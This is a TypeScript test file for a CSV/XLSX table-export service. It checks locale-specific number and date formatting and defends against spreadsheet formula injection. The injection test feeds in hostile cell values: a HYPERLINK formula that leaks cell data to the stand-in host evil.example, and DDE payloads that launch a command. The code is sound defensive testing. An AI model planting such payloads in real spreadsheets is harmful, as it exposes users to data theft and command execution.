import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { exportTables } from '../../../src/main/services/export/table-export';
import type { ExportTable, TableExportRequest } from '../../../src/shared/domain/table-export';

const table: ExportTable = {
  title: 'Root causes',
  columns: [
    { heading: 'Day', kind: 'date' },
    { heading: 'Root cause', kind: 'text' },
    { heading: 'Calls', kind: 'number' },
    { heading: 'Handle time, min', kind: 'decimal' },
    { heading: 'Share', kind: 'percent' },
  ],
  rows: [['2026-03-02', 'Затримка доставки', 1234, 4.25, 0.125]],
};

const request = (overrides: Partial<TableExportRequest>): TableExportRequest => ({ name: 'trends', format: 'csv', language: 'en', tables: [table], ...overrides });

async function csvText(overrides: Partial<TableExportRequest>): Promise<string> {
  return Buffer.from((await exportTables(request(overrides))).base64, 'base64').toString('utf8');
}

async function readBack(overrides: Partial<TableExportRequest>): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  const bytes = Buffer.from((await exportTables(request({ ...overrides, format: 'xlsx' }))).base64, 'base64');
  // exceljs's types predate Node's generic Buffer; the bytes are what it reads.
  await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return workbook;
}

const hostile = (text: string): ExportTable => ({ title: 'Calls', columns: [{ heading: 'Customer', kind: 'text' }, { heading: 'Day', kind: 'date' }], rows: [[text, text]] });

describe('an exported cell a spreadsheet would run as a formula is kept as text', () => {
  for (const [prefix, text] of [
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['+', '+380671234567'],
    ['-', '-2+3+cmd|\' /C calc\'!A0'],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ] as const) {
    it(`starting with ${prefix}: in the CSV and in the XLSX`, async () => {
      const csv = await csvText({ tables: [hostile(text)] });
      const cells = csv.split('\r\n')[2] ?? '';
      // Quoted when the text holds a quote or a line break; either way the cell's text starts with an apostrophe.
      expect(cells.startsWith(`'${text.charAt(0)}`) || cells.startsWith(`"'${text.charAt(0)}`), cells).toBe(true);
      const sheet = (await readBack({ tables: [hostile(text)] })).getWorksheet('Calls');
      const cell = sheet?.getCell('A2');
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed.
      const stored = `'${text}`.replaceAll('\r', '\n');
      expect(cell?.value).toBe(stored);
      // A date column's cell that is not a day is text like any other.
      expect(sheet?.getCell('B2').value).toBe(stored);
    });
  }

  it('ordinary text, numbers (a negative one too) and days are left as they are', async () => {
    const csv = await csvText({ tables: [{ ...table, rows: [['2026-03-02', 'Доставка', -3, 1.5, 0.5]] }] });
    expect(csv.split('\r\n')[2]).toBe('02/03/2026,Доставка,-3,1.5,50%');
  });
});

describe('numbers and dates are written in the user’s language', () => {
  it('a Russian or Ukrainian CSV uses the decimal comma, so its cells are separated by semicolons', async () => {
    for (const language of ['ru', 'uk'] as const) {
      const lines = (await csvText({ language })).split('\r\n');
      expect(lines[0]).toBe('\uFEFFRoot causes');
      expect(lines[2]).toMatch(/^02\.03\.2026;Затримка доставки;1234;4,3;12,5\s?%$/);
    }
  });

  it('an English CSV uses the point and commas', async () => {
    expect((await csvText({ language: 'en' })).split('\r\n')[2]).toBe('02/03/2026,Затримка доставки,1234,4.3,12.5%');
  });
});

describe('the XLSX', () => {
  it('opens as a valid workbook with a sheet per table, values as values and formats by language', async () => {
    const workbook = await readBack({ language: 'uk', tables: [table, { ...table, title: 'Root causes' }] });
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Root causes', 'Root causes (2)']);
    const sheet = workbook.getWorksheet('Root causes');
    expect(sheet?.getRow(1).values).toEqual([undefined, 'Day', 'Root cause', 'Calls', 'Handle time, min', 'Share']);
    expect(sheet?.getCell('A2').value).toEqual(new Date('2026-03-02T00:00:00Z'));
    expect(sheet?.getCell('A2').numFmt).toBe('dd.mm.yyyy');
    expect(sheet?.getCell('C2').value).toBe(1234);
    expect(sheet?.getCell('E2').value).toBe(0.125);
    expect(sheet?.getCell('E2').numFmt).toBe('0.0%');
  });
});
